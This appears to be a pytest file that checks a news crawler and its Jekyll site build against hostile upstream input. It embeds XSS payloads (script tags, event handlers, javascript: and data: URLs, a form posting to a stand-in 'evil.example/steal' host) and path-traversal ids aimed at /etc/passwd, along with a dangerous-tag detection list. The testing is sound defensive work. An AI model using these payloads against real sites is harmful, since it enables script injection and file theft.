"""Hostile upstream input end to end: list → posts → the real ``jekyll build`` → nothing unsafe in _site.

A loopback Eastmoney serves titles and media names full of YAML and Liquid specials, control and
bidi characters, a 10,000-character title, ids and URLs that try path traversal, and bodies with
scripts, event handlers, javascript:/data: URLs, SVG, iframes, meta refresh, <base> and forms.
Each becomes a safe post or a clear rejection; no file appears outside the output and state
folders; the site builds; and no script, handler or dangerous URL reaches the built pages.
The renderer's property test (any title/media/body round-trips) lives in tests/test_render.py.
"""

from __future__ import annotations

from pathlib import Path
from xml.etree import ElementTree

import pytest
from lxml import html as lxml_html

from crawler.postformat import clean_text
from tests.archive_support import jekyll_build
from tests.conftest import read_post, run_cli
from tests.upstream_support import LIST, Article, article_page, crawl, state_at

pytestmark = pytest.mark.jekyll

TITLES = [
    "He said: \"hi\" 'there' # not a comment",
    "- leading dash: looks like a YAML list",
    "---",
    "[bracket] *star* &anchor !tag |pipe >fold %percent @at `tick`",
    "line one\nline two\r\n--- \nthree",
    "{{ site.title }} {% raw %} {% endraw %} {%- include x -%}",
    "zero\u200bwidth\u200d \u202eright-to-left\u202c \u2066isolate\u2069 \ufeffbom",
    "<script>alert('title')</script> & <b>bold</b>",
    "[标题链接](javascript:alert('t')) ![图](javascript:alert('i')) <img src=x onerror=alert('o')",
    "长" * 10_000,
]
MEDIA = [
    '媒体: "引号" #注释', "{{ site.url }}", "- 新华社", "---", "&媒体 *星号", "a\nb",
    "<img src=x onerror=alert('media')>", "媒体](javascript:alert('m'))[x](javascript:alert('n'))", ":符号",
]  # fmt: skip
BODY = """
[行内链接](javascript:alert(15)) ![行内图](javascript:alert(16)) <javascript:alert(17)> *强调* `代码`
<p>正文开头 {{ site.title }} {% include nope.html %} {% endraw %} 原样显示。</p>
<script>alert('body')</script><noscript><img src=x onerror=alert(2)></noscript>
<p onclick="alert(3)">点击<img src="https://img.example/a.jpg" onerror="alert(4)"></p>
<p><a href="javascript:alert(5)">js链接</a> <a href=" JaVaScRiPt:alert(6)">大小写</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">data链接</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOCk+">
<a href="vbscript:msgbox(9)">vb</a></p>
<svg onload="alert(10)"><script>alert(11)</script><circle r="1"/></svg>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(12)">go</button></form>
<style>body{background:url(javascript:alert(13))}</style><link rel="stylesheet" href="https://evil.example/x.css">
<p style="background:url(javascript:alert(14))">样式</p>
<p>---</p>
<p>结尾正文。</p>
"""
# ids and URLs trying to get out of the output folder: the list parser finds no article id in them
TRAVERSAL = [
    {"code": "../../../../etc/passwd", "url": "../../../../etc/passwd"},
    {"code": "/etc/passwd", "url": "file:///etc/passwd"},
    {"code": "2022052600000\x0099999", "url": "http://finance.eastmoney.com/a/..%2f..%2fx.html"},
    {"code": "..\\..\\windows", "url": "/a/../../../x.html"},
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "svg", "math",
                  "frame", "frameset", "applet", "style", "link", "noscript"}  # fmt: skip
URL_ATTRS = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href")


def hostile_articles() -> list[Article]:
    out = []
    for i, title in enumerate(TITLES):
        out.append(
            Article(
                f"2022052600000{i + 1:05d}",
                title,
                BODY,
                media=MEDIA[i % len(MEDIA)],
                published=f"2022-05-26 09:{i:02d}:00",
            )
        )
    return out


def dangerous_bits(fragment_root) -> list[str]:
    """What in this parsed HTML could run script or navigate the reader away."""
    found = []
    for el in fragment_root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower().rsplit("}", 1)[-1]
        if tag in DANGEROUS_TAGS:
            found.append(f"<{tag}>")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in el.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{tag}@{name}")
            if name.lower() in URL_ATTRS:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{tag}@{name}={value[:30]}")
            if name.lower() == "style" and "javascript:" in value.lower():
                found.append(f"{tag}@style")
    return found


@pytest.fixture
def hostile_site(loopback, make_config, tmp_path):
    items = hostile_articles()
    records = [a.record() for a in items] + [
        {**t, "showTime": "2022-05-26 10:00:00", "title": "穿越", "mediaName": "新华社"} for t in TRAVERSAL
    ]
    loopback.add_json(LIST, {"code": "1", "data": {"list": records, "totle_hits": len(records)}})
    for article in items:
        loopback.add_json(article.text_path, {"text": article.body})
    # an article page that tries the same tricks, reached through the GetNewsText fallback
    page_article = Article(
        "202205260000099001", "页面里的<script>alert(1)</script>", BODY, published="2022-05-26 11:00:00"
    )
    loopback.add_json(
        LIST + "?page_index=1", {"code": "1", "data": {"list": [*records, page_article.record()]}}
    )
    loopback.add(page_article.text_path, "", status=404)
    loopback.add(page_article.page_path, article_page("页面标题", "2022年05月26日 11:00", BODY))
    items.append(page_article)

    config = make_config()
    init = run_cli("init-site", "--config", str(config))
    assert init.returncode == 0, init.stderr
    before = set(tmp_path.rglob("*"))
    result = crawl(config)
    categories = run_cli("archive", "categories", "--config", str(config))
    return tmp_path, config, items, result, categories, before


def test_hostile_input_gives_safe_posts_or_clear_rejections(hostile_site):
    root, _config, items, result, categories, before = hostile_site
    assert result.returncode == 0, result.stdout + result.stderr
    assert categories.returncode == 0, categories.stderr
    assert "Traceback" not in result.stderr
    assert "refused non-loopback request" not in result.stderr  # no page sent the crawler elsewhere

    # nothing was written outside the output and state folders
    outside = [
        p
        for p in set(root.rglob("*")) - before
        if not p.is_relative_to(root / "output") and not p.is_relative_to(root / "state")
    ]
    assert outside == []

    with state_at(root) as state:
        failures = {f.key: f.error for f in state.failures()}
        for article in items:
            post_path = root / "output" / "_posts" / article.post_name
            if post_path.exists():
                post = read_post(post_path)
                if article is not items[-1]:  # the last one's title comes from its page, not the list
                    assert post["title"] == clean_text(article.title)
                assert post["article_id"] == article.article_id
                if article.media:
                    assert post["media"] == clean_text(article.media)
                assert "{{" not in post.content and "{%" not in post.content  # Liquid is inert
                root_el = lxml_html.fragment_fromstring(post.content, create_parent="div")
                assert dangerous_bits(root_el) == [], article.title[:40]
            else:  # a clear rejection: recorded, with a reason
                assert article.key in failures, article.title[:40]
        assert state.count_articles() + len(failures) == len(items)
    # every post is one of ours: no traversal id produced a file, anywhere
    names = sorted(p.name for p in (root / "output" / "_posts").iterdir() if p.name != ".gitkeep")
    assert names == sorted(a.post_name for a in items if (root / "output" / "_posts" / a.post_name).exists())
    assert not (root / "etc").exists() and not Path("/etc/passwd.md").exists()


def test_hostile_site_builds_with_jekyll_and_no_script_survives(hostile_site, tmp_path):
    root, _config, _items, result, _categories, _before = hostile_site
    assert result.returncode == 0
    site = root / "output"
    build = jekyll_build(site, root / "_site")
    assert build.returncode == 0, build.stdout + build.stderr
    built = root / "_site"
    pages = [
        p for p in built.rglob("*.html") if p.name != "404.html"
    ]  # 404.html: the template's own redirect
    post_pages = [p for p in pages if "/2022/05/26/" in p.as_posix()]
    assert len(post_pages) == len(list((site / "_posts").glob("*.md")))
    for page in pages:
        doc = lxml_html.fromstring(page.read_bytes())
        assert dangerous_bits(doc.body) == [], page
        # the layout's <head> links its own stylesheet and feed; nothing else may get in there
        head = [b for b in dangerous_bits(doc.head) if b != "<link>"]
        assert head == [], page
        assert all("evil.example" not in (link.get("href") or "") for link in doc.head.iter("link")), page
    shown = " ".join(
        " ".join(lxml_html.fromstring(p.read_bytes()).text_content().split()) for p in post_pages
    )
    assert "{{ site.title }}" in shown  # shown as text, not evaluated
    assert "{% include nope.html %}" in shown
    assert "结尾正文。" in shown  # the body after the hostile part survived
    # Markdown in the body and in the media name (the footer line) is shown, not made into links
    assert "[行内链接](javascript:alert(15))" in shown
    assert "媒体](javascript:alert('m'))[x](javascript:alert('n'))新闻" in shown
    # the feed carries the same bodies: parse them as HTML too
    feed = ElementTree.parse(built / "feed.xml")
    for content in feed.iter("{http://www.w3.org/2005/Atom}content"):
        if content.text and content.text.strip():
            # the XML parser has already undone the feed's escaping: this is the HTML a reader gets
            fragment = lxml_html.fragment_fromstring(content.text, create_parent="div")
            assert dangerous_bits(fragment) == []
